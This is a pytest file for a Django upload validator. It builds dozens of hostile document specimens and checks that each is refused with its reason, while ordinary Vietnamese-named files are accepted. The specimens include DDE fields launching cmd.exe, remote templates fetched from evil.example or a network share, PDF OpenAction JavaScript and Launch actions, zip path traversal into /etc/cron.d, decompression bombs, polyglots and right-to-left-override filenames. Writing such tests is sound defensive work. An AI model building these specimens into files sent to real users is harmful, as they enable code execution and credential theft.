"""What is not taken, specimen by specimen: each is refused for its own reason, with the way out, and honest files are taken."""

import io
import zipfile
from zlib import crc32

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document
from openpyxl import Workbook
from openpyxl.chart import BarChart
from pikepdf import Array, Dictionary, Name, String

from tests.files import JPEG, PDF, PNG, office, picture
from units.uploads import EXCEL, WORD, check_upload

MAIN = "word/document.xml"
BOOK = "xl/workbook.xml"
TYPES = "[Content_Types].xml"
FAR = "http://evil.example/x"


def made(document):
    kept = io.BytesIO()
    document.save(kept)
    return kept.getvalue()


def related(kind, target, mode=' TargetMode="External"'):
    text = (
        f'<Relationships><Relationship Id="r1" Type="http://schemas/{kind}" Target="{target}"{mode}/></Relationships>'
    )
    return office(TYPES, MAIN, ("word/_rels/document.xml.rels", text))


def fields(*runs):
    return office(
        TYPES,
        (
            MAIN,
            '<w:p xmlns:w="w">' + "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs) + "</w:p>",
        ),
    )


def pdf(change=lambda document, page: None, **how):
    with pikepdf.new() as document:
        change(document, document.add_blank_page())
        kept = io.BytesIO()
        document.save(kept, **how)
    return kept.getvalue()


def on_opening(**act):
    return pdf(lambda document, page: document.Root.update({"/OpenAction": Dictionary(**act)}))


def deep(document, page):
    """JavaScript of a button, inside an array inside a page, its name written with escapes by whoever hides it."""
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    page.obj.Annots = Array([Dictionary(Type=Name.Annot, AA=Dictionary(E=script))])


def attached(document, page):
    document.attachments["x.exe"] = b"MZ"


def old(*streams):
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600 + b"".join(name.encode("utf-16-le") for name in streams)


def locked_zip():
    data = bytearray(office(TYPES, MAIN))
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def twice():
    kept = io.BytesIO(office(TYPES, MAIN))
    with zipfile.ZipFile(kept, "a") as archive, pytest.warns(UserWarning):
        archive.writestr(MAIN, "<other/>")
    return kept.getvalue()


def huge_picture():
    """A PNG whose header promises 20,000 × 20,000."""
    data = bytearray(PNG)
    data[16:24] = (20_000).to_bytes(4, "big") * 2
    data[29:33] = crc32(data[12:29]).to_bytes(4, "big")
    return bytes(data)


HIDDEN = PDF.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/J#61vaScript/J#53(a)>>")
REFUSED = {
    "zip": ("a.zip", office("readme.txt"), "archive"),
    "zip called docx": ("a.docx", office("readme.txt"), "archive"),
    "empty zip": ("a.zip", b"PK\x05\x06" + b"\x00" * 18, "archive"),
    "rar": ("a.rar", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 40, "archive"),
    "7z": ("a.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 40, "archive"),
    "gz": ("a.gz", b"\x1f\x8b\x08\x00" + b"\x00" * 40, "archive"),
    "tar": ("a.tar", b"bao-cao.txt".ljust(257, b"\x00") + b"ustar\x0000" + b"\x00" * 250, "archive"),
    "doc": ("a.doc", old("WordDocument"), "old_office"),
    "xls called xlsx": ("a.xlsx", old("Workbook", "_VBA_PROJECT_CUR"), "old_office"),
    "docx with a password": ("a.docx", old("EncryptedPackage"), "encrypted"),
    "locked parts": ("a.docx", locked_zip(), "encrypted"),
    "docm": ("a.docm", office(TYPES, MAIN, "word/vbaProject.bin"), "macro"),
    "macro called docx": ("a.docx", office(TYPES, MAIN, "word/vbaData.xml"), "macro"),
    "macro by its type": (
        "a.docx",
        office(
            (TYPES, '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'),
            MAIN,
        ),
        "macro",
    ),
    "macro under another name": ("a.docx", related("vbaProject", "innocent.bin", ""), "macro"),
    "Excel 4 macros": ("a.xlsx", office(TYPES, BOOK, "xl/macrosheets/sheet1.xml"), "macro"),
    "ActiveX": ("a.docx", office(TYPES, MAIN, "word/activeX/activeX1.xml"), "embedded"),
    "OLE": ("a.docx", office(TYPES, MAIN, "word/embeddings/oleObject1.bin"), "embedded"),
    "OLE elsewhere": ("a.docx", related("oleObject", "media/x.bin", ""), "embedded"),
    "html inside": ("a.docx", related("aFChunk", "x.mht", ""), "embedded"),
    "two deep": (
        "a.docx",
        office(TYPES, MAIN, ("word/embeddings/a.xlsx", office(TYPES, BOOK, "xl/embeddings/b.xlsx"))),
        "embedded",
    ),
    "macro in the inner book": (
        "a.docx",
        office(TYPES, MAIN, ("word/embeddings/a.xlsx", office(TYPES, BOOK, "xl/vbaProject.bin"))),
        "macro",
    ),
    "template from afar": ("a.docx", related("attachedTemplate", FAR), "external"),
    "template of a share": ("a.docx", related("attachedTemplate", "file:////10.0.0.9/x.dotm"), "external"),
    "template of a share, in Windows' way": ("a.docx", related("attachedTemplate", "\\\\10.0.0.9\\x.dotm"), "external"),
    "picture from afar": ("a.docx", related("image", "&#104;ttps://evil.example/p.png"), "external"),
    "other workbook": ("a.xlsx", office(TYPES, BOOK, "xl/externalLinks/externalLink1.xml"), "external"),
    "other workbook under another name": ("a.xlsx", related("externalLink", "x/l.xml", ""), "external"),
    "other workbook by its type": (
        "a.xlsx",
        office((TYPES, '<Types><Override PartName="/xl/x/l.xml" ContentType="a.externalLink+xml"/></Types>'), BOOK),
        "external",
    ),
    "data fetched on opening": ("a.xlsx", related("connections", "connections.xml", ""), "external"),
    "a linked field": ("a.docx", fields(' LINK Excel.Sheet.12 "\\\\10.0.0.9\\x.xlsx" "" \\a'), "external"),
    "fields in a part that is not called XML": (
        "a.docx",
        office((TYPES, '<Types><Override PartName="/word/real.dat" ContentType="a.document.main+xml"/></Types>'), MAIN),
        "broken",
    ),
    "old book inside, elsewhere": ("a.docx", office(TYPES, MAIN, ("word/media/a.png", old("Workbook"))), "embedded"),
    "macro book inside, elsewhere": (
        "a.docx",
        office(TYPES, MAIN, ("a.xlsx", office(TYPES, BOOK, "xl/vbaProject.bin"))),
        "macro",
    ),
    "DDE in two runs": ("a.docx", fields(" DDEA", 'UTO c:\\\\cmd.exe "/c calc"'), "external"),
    "remote text": ("a.docx", fields(f' INCLUDETEXT "{FAR}"'), "external"),
    "a field under another prefix, in another part": (
        "a.docx",
        office(TYPES, MAIN, ("word/real.xml", '<a:p xmlns:a="x"><a:instrText>&#68;DEAUTO c:\\cmd</a:instrText></a:p>')),
        "external",
    ),
    "a link behind a bracket": ("a.docx", related("image", FAR, ' Note="a>b" TargetMode="External"'), "external"),
    "link that runs": ("a.docx", related("hyperlink", "JavaScript:alert(1)"), "active"),
    "DTD": ("a.docx", office(TYPES, (MAIN, '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><w:p/>')), "broken"),
    "comments to lose oneself in": ("a.docx", office(TYPES, (MAIN, "<!---->" * 500 + "<!")), "broken"),
    "another encoding": ("a.docx", office(TYPES, (MAIN, "<w:p/>".encode("utf-16"))), "broken"),
    "a way out": ("a.docx", office(TYPES, MAIN, "../../etc/cron.d/x"), "broken"),
    "a part twice": ("a.docx", twice(), "broken"),
    "bomb": ("a.docx", office(TYPES, (MAIN, "<x>" + "0" * 11_000_000)), "bomb"),
    "many parts": ("a.docx", office(TYPES, MAIN, *(f"word/{n}" for n in range(3_000))), "bomb"),
    "cut docx": ("a.docx", office(TYPES, MAIN)[:-30], "broken"),
    "cut PDF": ("a.pdf", b"%PDF-1.7\n1 0 obj<</Type/Catal", "broken"),
    "PDF of objects": ("a.pdf", PDF.replace(b"/Size 4", b"/Size 900000"), "bomb"),
    "PDF of pages": ("a.pdf", pdf(lambda document, page: [document.add_blank_page() for _ in range(2000)]), "pages"),
    "JavaScript on opening": ("a.pdf", on_opening(S=Name.JavaScript, JS=String("x")), "active"),
    "JavaScript, escaped": ("a.pdf", HIDDEN, "active"),
    "JavaScript of a button": ("a.pdf", pdf(deep, object_stream_mode=pikepdf.ObjectStreamMode.generate), "active"),
    "launch": ("a.pdf", on_opening(S=Name.Launch, F=String("cmd.exe")), "active"),
    "form that sends itself": ("a.pdf", on_opening(S=Name.SubmitForm, F=String(FAR)), "active"),
    "attached file": ("a.pdf", pdf(attached), "attached"),
    "PDF with a password": ("a.pdf", pdf(encryption=pikepdf.Encryption(user="x", owner="y")), "encrypted"),
    "PDF with locked rights": ("a.pdf", pdf(encryption=pikepdf.Encryption(user="", owner="y")), "encrypted"),
    "PDF and zip": ("a.pdf", PDF + office("x.exe"), "two_types"),
    "PNG and zip": ("a.png", PNG + office("x.exe"), "two_types"),
    "text and PDF": ("a.txt", b"ghi chu\n" + PDF, "two_types"),
    "docx and PDF": ("a.docx", office(("%PDF-1.7", "<x/>"), TYPES, MAIN), "two_types"),
    "image bomb": ("a.png", huge_picture(), "pixels"),
    "damaged PNG": ("a.png", PNG[:40] + b"\xff" + PNG[41:], "broken"),
    "wrong ending": ("a.pdf", PNG, "ending"),
    "drawing that runs": ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "ending"),
    "program by its name": ("a.exe", PDF, "ending"),
    "double ending": ("thiep.exe.pdf", PDF, "double_ending"),
    "spaces before the ending": ("thiep.js   .pdf", PDF, "double_ending"),
    "turned round": ("thiep\u202efdp.pdf", PDF, "turned_name"),
}


def asked(name, data):
    file = SimpleUploadedFile("x", data)
    file._name = name  # as a request may name it: Django's own setter would cut folders off
    return check_upload(file)


@pytest.mark.parametrize("case", REFUSED)
def test_a_dangerous_file_is_refused_for_its_reason_and_with_the_way_out(case, settings):
    settings.UPLOAD_MAX_BYTES = 1024 * 1024
    name, data, code = REFUSED[case]
    with pytest.raises(ValidationError) as caught:
        asked(name, data)
    assert caught.value.code == code, caught.value
    (said,) = caught.value.messages
    assert "Hãy " in said and "{" not in said and "\u202e" not in said


TIP = (
    "word/footer1.xml",
    '<w:p xmlns:w="w"><w:instrText> HYPERLINK "https://a.vn" \\o "Link to a.vn"</w:instrText></w:p>',
)


def chart_paper():
    """A Word file with a chart, which carries its numbers in a workbook of its own, and links that are clicked."""
    links = '<Relationships><Relationship Id="r1" Type="http://x/hyperlink" Target="https://chinhphu.vn" TargetMode="External"/>'
    links += '<Relationship Id="r2" Type="http://x/attachedTemplate" Target="file:///C:\\M%E1%BA%ABu\\Normal.dotm" '
    links += 'TargetMode="External"/></Relationships>'
    inner = ("word/embeddings/a.xlsx", office(TYPES, BOOK))
    return office(TYPES, MAIN, inner, ("word/_rels/document.xml.rels", links), TIP)


def chart_book():
    book = Workbook()
    book.active.append(['=HYPERLINK("https://chinhphu.vn")', 1])
    book.active.add_chart(BarChart(), "D1")
    return made(book)


def linked(document, page):
    """A link, a form to fill in, and words that only speak of scripts."""
    link = Dictionary(S=Name.URI, URI=String("https://chinhphu.vn/a/JS (b)"))
    page.obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, A=link)])
    document.Root.AcroForm = Dictionary(Fields=Array([]), SigFlags=3)
    document.docinfo["/Title"] = "Hướng dẫn /JavaScript và /Launch"


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("Kế hoạch.docx", made(Document()), WORD),
        ("Biểu đồ.docx", chart_paper(), WORD),
        ("Lịch trực.XLSX", chart_book(), EXCEL),
        ("Công văn 12.signed.pdf", pdf(linked), "application/pdf"),
        ("Ảnh trạm.JPEG", JPEG, "image/jpeg"),
        ("tệp từ điện thoại", picture("PNG"), "image/png"),
        ("Báo cáo ngày 17.02", b"x" * 9000, "text/plain"),
        ("danh sach.csv", "Tên;Số\nViễn thông;1".encode(), "text/plain"),
    ],
)
def test_an_honest_file_is_taken(name, data, expected):
    assert asked(name, data) == expected


def test_a_refused_file_is_noted_without_its_name(caplog):
    with pytest.raises(ValidationError):
        asked("Nguyễn Văn A 0912345678.docm", REFUSED["docm"][1])
    (line,) = [record.getMessage() for record in caplog.records if record.name == "security"]
    assert line.startswith("upload refused: macro; ") and "Nguyễn" not in line
